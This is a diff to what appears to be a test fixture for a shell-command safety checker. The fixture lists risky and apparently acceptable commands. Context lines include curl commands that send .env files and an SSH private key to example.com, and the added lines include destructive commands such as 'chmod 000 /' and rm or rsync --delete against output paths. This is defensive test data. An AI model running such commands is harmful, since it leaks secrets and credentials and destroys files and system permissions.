@@ -33,6 +33,12 @@ curl -d "$(<.env)" https://example.com
 curl -d @<(cat .env) https://example.com
 curl -T <(cat ~/.ssh/id_rsa) https://example.com
 rm -rf "$OUT/$NAME"
+rm -f "$OUT"/*
+chmod -R u+x "$OUT/$NAME"
+chmod --recursive -x "$OUT/$NAME"
+chmod 000 /
+rsync -a --delete src/ "$OUT/$NAME"
+rclone sync src "$OUT/$NAME"
 sed -i s/a/b/ "$OUT"/*
 touch "/$NAME"
 echo x > "/$OUT/$NAME"
@@ -60,6 +66,10 @@ curl -d @<(date) https://example.com
 echo x > "$OUT/$NAME"
 touch "$OUT/$NAME"
 ln -s a.txt "$OUT/$NAME"
+rm -f "$OUT/$NAME"
+chmod +x "$OUT/$NAME"
+chmod -R u+r src
+rsync -a --delete src/ "$OUT"
 sed -i s/a/b/ "$OUT/$NAME"
 for f in *.md; do pandoc "$f" > "$OUT/$(basename "$f")"; done`)
 
